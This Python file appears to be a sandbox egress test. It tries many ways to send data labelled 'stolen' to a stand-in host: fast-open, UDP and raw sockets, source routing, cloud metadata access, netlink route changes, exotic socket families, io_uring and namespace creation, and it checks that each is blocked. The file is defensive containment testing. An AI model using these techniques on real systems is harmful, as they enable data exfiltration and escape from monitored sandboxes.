"""Everything that reaches a host without a proxy, and nothing of it may."""
from hostile import *
data = b"stolen"
MSG_FASTOPEN, TCP_FASTOPEN_CONNECT = 0x20000000, 30
lib = libc

def sockaddr(host, port, family):
    if family == INET:
        return struct.pack("=H", INET) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)
    return struct.pack("=H", INET6) + struct.pack(">HI", port, 0) + socket.inet_pton(INET6, host) + struct.pack("=I", 0)

class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int)]
class mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]

def sendmmsg(s, address, flags=0):
    iov = iovec(data, len(data))
    m = mmsghdr(msghdr(address, len(address), ctypes.pointer(iov), 1, None, 0, 0), 0)
    return syscall(307 if os.uname().machine == "x86_64" else 269, s.fileno(), ctypes.byref(m), 1, flags)

for fam, host, local in ((INET, BAD, "127.0.0.1"), (INET6, BAD6, "::1"), (INET6, "::ffff:" + BAD, "::ffff:127.0.0.1")):
    tag = {INET: "4", INET6: "6"}[fam] + ("m" if "ffff" in host else "")
    a = sockaddr(host, PORT, fam)
    say(tag + " connect", lambda: tcp(host, PORT, fam))
    say(tag + " connect non-blocking", lambda: nonblocking(host, PORT, fam))
    def late():
        s = socket.socket(fam, TCP); s.setsockopt(6, TCP_FASTOPEN_CONNECT, 1); s.settimeout(30); s.connect((host, PORT)); s.send(data)
    say(tag + " fast open connect", late)
    say(tag + " fast open sendto", lambda: socket.socket(fam, TCP).sendto(data, MSG_FASTOPEN, (host, PORT)))
    say(tag + " fast open sendmsg", lambda: socket.socket(fam, TCP).sendmsg([data], [], MSG_FASTOPEN, (host, PORT)))
    say(tag + " fast open sendmmsg", lambda: sendmmsg(socket.socket(fam, TCP), a, MSG_FASTOPEN))
    say(tag + " udp connect", lambda: socket.socket(fam, UDP).connect((host, PORT)))
    say(tag + " udp sendto", lambda: socket.socket(fam, UDP).sendto(data, (host, PORT)))
    say(tag + " udp sendmsg", lambda: socket.socket(fam, UDP).sendmsg([data], [], 0, (host, PORT)))
    info = (0, 8, struct.pack("=I", 1) + bytes(8)) if fam == INET else (41, 50, bytes(16) + struct.pack("=I", 1))
    def lost():  # the kernel takes whatever is to leave by lo for a neighbour there, so this may succeed and leads nowhere
        try: socket.socket(fam, UDP).sendmsg([data], [info], 0, (host, PORT))
        except OSError as e: assert e.errno in (errno.EACCES, errno.EINVAL), e
        s = socket.socket(fam, UDP); s.setsockopt(1, 25, b"lo\0")
        try: s.sendto(data, (host, PORT))
        except OSError as e: assert e.errno == errno.EACCES, e
    say(tag + " udp by lo alone", lost)
    say(tag + " udp sendmmsg", lambda: sendmmsg(socket.socket(fam, UDP), a))
    def connected():
        s = socket.socket(fam, UDP); s.connect((local, 9999)); return s.sendto(data, (host, PORT))
    say(tag + " udp sendto of a connected one", connected)
    def free():
        s = socket.socket(fam, TCP); s.setsockopt(0, 15, 1); s.bind((host, 0)); s.settimeout(30); s.connect((host, PORT))
    say(tag + " from an address of theirs", free)

def option(level, opt, value, family=INET, kind=TCP):
    socket.socket(family, kind).setsockopt(level, opt, value)
say("mark", lambda: option(1, 36, 7))
say("transparent", lambda: option(0, 19, 1))
say("repair", lambda: option(6, 19, 1))
def device():
    s = socket.socket(INET, TCP); s.setsockopt(1, 25, b"lo\0"); s.settimeout(30); s.connect((BAD, PORT))
say("bound to lo", device)
def unicast_if(kind):
    s = socket.socket(INET, kind); s.setsockopt(0, 50, struct.pack(">I", 1)); s.settimeout(30); s.connect((BAD, PORT))
say("unicast interface", lambda: unicast_if(UDP))
def routed():
    s = socket.socket(INET, UDP)
    s.setsockopt(0, 4, bytes([131, 11, 4]) + socket.inet_aton("127.0.0.1") + socket.inet_aton(BAD) + b"\x01")  # LSRR
    return s.sendto(data, ("127.0.0.1", PORT))
say("source route", routed)
def header():
    s = socket.socket(INET6, UDP); s.setsockopt(41, 57, struct.pack("=BBBBI", 0, 2, 0, 1, 0) + socket.inet_pton(INET6, BAD6))
    return s.sendto(data, ("::1", PORT))
say("routing header", header)
say("don't route", lambda: socket.socket(INET, UDP).sendto(data, 4, (BAD, PORT)))
def broadcast():
    s = socket.socket(INET, UDP); s.setsockopt(1, 6, 1); return s.sendto(data, ("255.255.255.255", PORT))
say("broadcast", broadcast)
say("multicast", lambda: socket.socket(INET, UDP).sendto(data, ("224.0.0.1", PORT)))
say("multicast 6", lambda: socket.socket(INET6, UDP).sendto(data, ("ff02::1%1", PORT)))
say("link-local 6", lambda: socket.socket(INET6, UDP).sendto(data, ("fe80::1", PORT, 0, 1)))
say("link-local 6 tcp", lambda: socket.socket(INET6, TCP).connect(("fe80::1", PORT, 0, 1)))
say("host's side", lambda: tcp("10.203.255.1"))
say("metadata", lambda: tcp("169.254.169.254", 80))

def request(kind, flags, body):
    s = socket.socket(16, 3, 0); s.bind((0, 0)); s.settimeout(30)
    s.send(struct.pack("=IHHII", 16 + len(body), kind, 5 | flags, 1, 0) + body)
    r = s.recv(4096); return errno.errorcode.get(-struct.unpack_from("=i", r, 16)[0], "ok")
attr = lambda kind, v: struct.pack("=HH", 4 + len(v), kind) + v
say("a route", lambda: request(24, 0x600, struct.pack("=BBBBBBBBI", INET, 0, 0, 0, 254, 4, 253, 1, 0) + attr(4, struct.pack("=I", 1))))
say("no route", lambda: request(25, 0, struct.pack("=BBBBBBBBI", INET, 0, 0, 0, 254, 4, 0, 8, 0)))
say("an address", lambda: request(20, 0x600, struct.pack("=BBBBI", INET, 24, 0, 0, 1) + attr(2, socket.inet_aton(BAD)) + attr(1, socket.inet_aton(BAD))))
say("a link", lambda: request(16, 0x600, struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + attr(18, attr(1, b"veth\0\0\0\0"))))
import fcntl
say("lo down", lambda: fcntl.ioctl(socket.socket(INET, UDP), 0x8914, struct.pack("=16sH22x", b"lo", 0)) and None)

for label, args in (("raw", (2, 3, 1)), ("raw udp", (2, 3, 17)), ("raw any", (2, 3, 255)), ("raw 6", (10, 3, 58)), ("old packet", (2, 10, 0x300)), ("packet", (17, 3, 0x300)),
                    ("packet dgram", (17, 2, 0x800)), ("sctp", (2, 1, 132)), ("sctp seqpacket", (2, 5, 132)), ("mptcp", (2, 1, 262)), ("mptcp 6", (10, 1, 262)),
                    ("dccp", (2, 6, 33)), ("udp-lite", (2, 2, 136)), ("udp-lite 6", (10, 2, 136)), ("l2tp", (2, 2, 115)), ("smc", (43, 1, 0)), ("vsock", (40, 1, 0)),
                    ("vsock dgram", (40, 2, 0)), ("generic netlink", (16, 3, 16)), ("netfilter", (16, 3, 12)), ("xfrm", (16, 3, 6)), ("audit", (16, 3, 9)),
                    ("connector", (16, 3, 11)), ("alg", (38, 5, 0)), ("bluetooth", (31, 3, 1)), ("can", (29, 3, 1)), ("tipc", (30, 5, 0)), ("xdp", (44, 3, 0)), ("qipcrtr", (42, 2, 0)),
                    ("kcm", (41, 2, 0)), ("rds", (21, 5, 0)), ("ax25", (3, 2, 0)), ("x25", (9, 5, 0)), ("ieee802154", (36, 3, 0)), ("key", (15, 3, 2)), ("caif", (37, 1, 0)),
                    ("unix dgram", (1, 2, 0)), ("unix raw", (1, 3, 0)), ("high bits", (2 | 1 << 32, 3, 1))):
    say(label, lambda: os.close(syscall(41 if os.uname().machine == "x86_64" else 198, *map(ctypes.c_long, args))))
say("unix dgram pair", lambda: socket.socketpair(UNIX, UDP) and None)
def ping(family, proto, host):
    s = socket.socket(family, UDP, proto); s.sendto(struct.pack(">BBHHH", 8 if family == INET else 128, 0, 0, 1, 1) + data, (host, 0))
def unpinged(*a):
    try: ping(*a)
    except OSError as e: return "refused" if e.errno in (errno.EACCES, errno.EPERM) else name(e)
    return "sent"
say("ping", lambda: unpinged(INET, 1, BAD))
say("ping 6", lambda: unpinged(INET6, 58, BAD6))
say("io_uring", lambda: syscall(425, 8, ctypes.create_string_buffer(120)) and None)
say("io_uring enter", lambda: syscall(426, 0, 0, 0, 0, 0, 0) and None)
say("new network", lambda: syscall(272 if os.uname().machine == "x86_64" else 97, 0x40000000) and None)
say("new user and network", lambda: syscall(272 if os.uname().machine == "x86_64" else 97, 0x50000000) and None)
done()
